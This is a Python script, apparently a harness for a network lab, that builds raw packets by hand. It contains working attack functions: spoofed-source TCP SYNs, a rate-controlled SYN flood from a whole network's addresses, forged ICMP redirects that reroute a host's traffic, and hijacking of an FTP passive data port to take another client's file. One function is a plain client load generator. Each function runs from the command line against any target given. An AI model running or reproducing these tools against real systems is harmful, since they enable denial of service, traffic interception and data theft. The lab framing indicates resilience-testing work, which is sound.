"""Packets that no socket of the system's would send, for `npm run lab`. Each form ends by itself and prints one line of JSON."""

import json
import os
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data if len(data) % 2 == 0 else data + b"\0"))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, target, source_port, port):
    """A TCP SYN with an IPv4 or IPv6 header before it (RFC 9293 section 3.1)."""
    six = ":" in target
    family = socket.AF_INET6 if six else socket.AF_INET
    ends = socket.inet_pton(family, source) + socket.inet_pton(family, target)
    options = struct.pack("!BBH", 2, 4, 1460)
    number = int.from_bytes(os.urandom(4), "big")
    head = lambda total: struct.pack("!HHIIBBHHH", source_port, port, number, 0, 6 << 4, 2, 64240, total, 0) + options
    pseudo = ends + (struct.pack("!II", 24, 6) if six else struct.pack("!BBH", 0, 6, 24))
    tcp = head(checksum(pseudo + head(0)))
    if six:
        return struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + ends + tcp
    ip = lambda total: struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), source_port, 0, 64, 6, total) + ends
    return ip(checksum(ip(0))) + tcp


def raw(target):
    if ":" in target:
        return socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW), (target, 0, 0, 0)
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW), (target, 0)


def forge(target, port, source, count):
    """SYNs with somebody else's address."""
    line, to = raw(target)
    for at in range(int(count)):
        line.sendto(syn(source, target, 42000 + at, int(port)), to)
    return {"sent": int(count)}


def flood(target, mac, port, prefix, per_second, seconds):
    """SYNs from all of a network's addresses, so many a second; `prefix` is a network's first three numbers."""
    line = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0)
    to = ("eth0", 0x0800, 0, 0, bytes.fromhex(mac.replace(":", "")))
    frames = [syn(f"{prefix}.{at % 240 + 10}", target, 1024 + (at * 37) % 64000, int(port)) for at in range(16384)]
    began = time.monotonic()
    sent = refused = 0
    while (now := time.monotonic() - began) < float(seconds):
        due = int(now * int(per_second))
        if sent >= due:
            time.sleep(0.0005)
        while sent < due:
            try:
                line.sendto(frames[sent % len(frames)], to)
            except OSError:
                refused += 1
            sent += 1
    return {"sent": sent - refused, "seconds": time.monotonic() - began}


def redirect(gateway, target, other, towards):
    """An ICMP redirect (RFC 792) in the gateway's name: what goes to `towards` shall go by `other`. Quoted is an echo reply: no socket need be there."""
    quoted = struct.pack("!BBHHHBBH", 0x45, 0, 28, 1, 0, 64, 1, 0)
    quoted += socket.inet_aton(target) + socket.inet_aton(towards) + struct.pack("!BBHHH", 0, 0, 0, 1, 1)
    body = lambda total: struct.pack("!BBH", 5, 1, total) + socket.inet_aton(other) + quoted
    icmp = body(checksum(body(0)))
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(icmp), 1, 0, 64, 1, 0)
    line, to = raw(target)
    for _ in range(5):
        line.sendto(head + socket.inet_aton(gateway) + socket.inet_aton(target) + icmp, to)
        time.sleep(0.05)
    return {"sent": 5}


def connects(host, port, seconds):
    """A client like any other: connects, asks, reads an answer's first bytes; each within four seconds."""
    began = time.monotonic()
    tried = answered = 0
    while time.monotonic() - began < float(seconds):
        tried += 1
        try:
            with socket.create_connection((host, int(port)), 4) as line:
                line.sendall(b"GET / HTTP/1.1\r\nHost: mirror\r\nConnection: close\r\n\r\n")
                answered += line.recv(16).startswith(b"HTTP/1.1")
        except OSError:
            pass
        time.sleep(0.02)
    return {"tried": tried, "answered": answered}


def theft(host, own, thief, name):
    """Somebody else takes the data port that a client was given, and the client asks for its file all the same."""
    with socket.create_connection((host, 21), 10, (own, 0)) as control:
        words = control.makefile("rw", newline="\r\n")

        def reply():
            # RFC 959 section 4.2: the last line of a reply has a blank behind its number.
            while (line := words.readline())[3:4] == "-":
                pass
            return line

        def say(line):
            words.write(line + "\n")
            words.flush()
            return reply()

        reply()
        for line in ("USER anonymous", "PASS lab@example", "TYPE I"):
            say(line)
        port = int(say("EPSV").split("|||")[1].split("|")[0])
        taken = 0
        try:
            with socket.create_connection((host, port), 3, (thief, 0)) as line:
                line.settimeout(3)
                words.write(f"RETR {name}\n")
                words.flush()
                try:
                    taken = len(line.recv(65536))
                except OSError:
                    pass
                got = 0
                try:
                    with socket.create_connection((host, port), 5, (own, 0)) as data:
                        while piece := data.recv(65536):
                            got += len(piece)
                except OSError:
                    pass
                return {"stolen": taken, "received": got}
        except OSError:
            return {"stolen": 0, "received": -1}


FORMS = {each.__name__: each for each in (forge, flood, redirect, connects, theft)}
print(json.dumps(FORMS[sys.argv[1]](*sys.argv[2:])))
